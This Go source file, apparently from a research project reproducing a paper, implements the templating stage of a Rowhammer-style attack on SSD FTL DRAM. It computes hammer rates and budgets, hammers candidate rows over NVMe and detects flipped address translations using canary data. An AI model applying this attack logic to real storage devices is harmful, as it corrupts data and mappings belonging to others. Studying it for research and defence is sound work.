package attack

import (
	"errors"

	"ftlhammer/internal/ftl"
	"ftlhammer/internal/nvme"
)

// RequiredRate returns the access rate needed against the device's DRAM
// profile (the Table 1 threshold for its generation), in accesses per
// second. Model knowledge: the attacker reads the module's part number
// and looks the rate up in published tables (threat model, §3).
func RequiredRate(dev *nvme.Device) float64 {
	cfg := dev.DRAM().Config()
	return float64(cfg.Profile.HCfirst) / cfg.RefreshWindow.Seconds()
}

// HammerBudget returns k refresh windows' worth of iterations at
// RequiredRate: the iteration budget that crosses the device's HCfirst k
// times over at full rate.
func HammerBudget(dev *nvme.Device, k int) int {
	return int(RequiredRate(dev)*dev.DRAM().Config().RefreshWindow.Seconds()) * k
}

// MeasuredRate reports the achieved read rate (IOPS) of n reads
// alternated across the binding's two sides — the attacker's bandwidth
// check before committing to a hammer campaign.
func MeasuredRate(h *DeviceHammerer, b Binding, n int) (float64, error) {
	clk := h.Dev.Clock()
	start := clk.Now()
	p := DoublePattern()
	p.Iterations = n / 2
	if err := h.Hammer(b, p); err != nil {
		return 0, err
	}
	elapsed := clk.Now().Sub(start)
	if elapsed == 0 {
		return 0, errors.New("attack: no time elapsed")
	}
	return float64(2*(n/2)) / elapsed.Seconds(), nil
}

// Templating (§4.2 "hammering stage"): rowhammerability varies with
// manufacturing, so before the real campaign the attacker tests candidate
// triples online. Within its own partition it can observe victim rows
// directly: write known data to the LBAs whose translations live in the
// candidate victim row, hammer the aggressors, and check whether any of
// those LBAs now reads differently (or errors) — evidence that a
// translation bit flipped.

// TemplateResult describes one tested binding.
type TemplateResult struct {
	Binding Binding
	// Vulnerable means hammering visibly corrupted a translation.
	Vulnerable bool
	// Observation describes what was seen ("data changed", "read
	// error", "").
	Observation string
}

// Template hammers each candidate own-partition binding with p and
// returns per-binding results, most useful first (vulnerable before
// invulnerable, preserving order otherwise). p.Iterations is the budget
// per candidate; zero picks enough to exceed the device's threshold four
// times over at full rate.
func Template(h *DeviceHammerer, bindings []Binding, p Pattern) ([]TemplateResult, error) {
	if p.Iterations <= 0 {
		p.Iterations = max(HammerBudget(h.Dev, 4), 1024)
	}
	if h.Buf == nil {
		h.Buf = make([]byte, h.Dev.BlockBytes())
	}
	var out []TemplateResult
	for _, b := range bindings {
		res, err := templateOne(h, b, p)
		if err != nil {
			return nil, err
		}
		out = append(out, res)
	}
	// Stable partition: vulnerable first.
	ordered := make([]TemplateResult, 0, len(out))
	for _, r := range out {
		if r.Vulnerable {
			ordered = append(ordered, r)
		}
	}
	for _, r := range out {
		if !r.Vulnerable {
			ordered = append(ordered, r)
		}
	}
	return ordered, nil
}

// templateOne probes a single candidate binding.
func templateOne(h *DeviceHammerer, b Binding, p Pattern) (TemplateResult, error) {
	res := TemplateResult{Binding: b}
	ns := h.NS
	// Only LBAs we own can be written and observed; the whole victim row
	// is armed.
	probes := b.VictimEntries(nil, ns, 0)
	if len(probes) == 0 {
		return res, nil // cross-partition candidate: not directly testable
	}
	// Arm the victim row: mapped entries with recognizable data.
	for _, lba := range probes {
		for j := range h.Buf {
			h.Buf[j] = canaryFill(lba)
		}
		if err := h.Dev.Write(ns, lba, h.Buf, h.Path); err != nil {
			return res, err
		}
	}
	if err := h.Hammer(b, p); err != nil {
		return res, err
	}
	// Probe: any change or error marks the row vulnerable. Behind an FTL
	// cache the probe itself must evict first, or it would read the
	// stale cached translation instead of the flipped DRAM entry.
	evictDelta := ftl.LBA(p.CacheEvictLines) * LineEntries
	for _, lba := range probes {
		if evictDelta > 0 {
			// Eviction only; errors from flipped alias entries are noise.
			_, _ = h.Dev.Read(ns, h.aliasLBA(lba, evictDelta), h.Buf, h.Path)
		}
		mapped, err := h.Dev.Read(ns, lba, h.Buf, h.Path)
		if err != nil {
			res.Vulnerable = true
			res.Observation = "read error: " + err.Error()
			return res, nil
		}
		if !mapped {
			res.Vulnerable = true
			res.Observation = "mapping vanished"
			return res, nil
		}
		want := canaryFill(lba)
		for _, c := range h.Buf {
			if c != want {
				res.Vulnerable = true
				res.Observation = "data changed"
				return res, nil
			}
		}
	}
	return res, nil
}
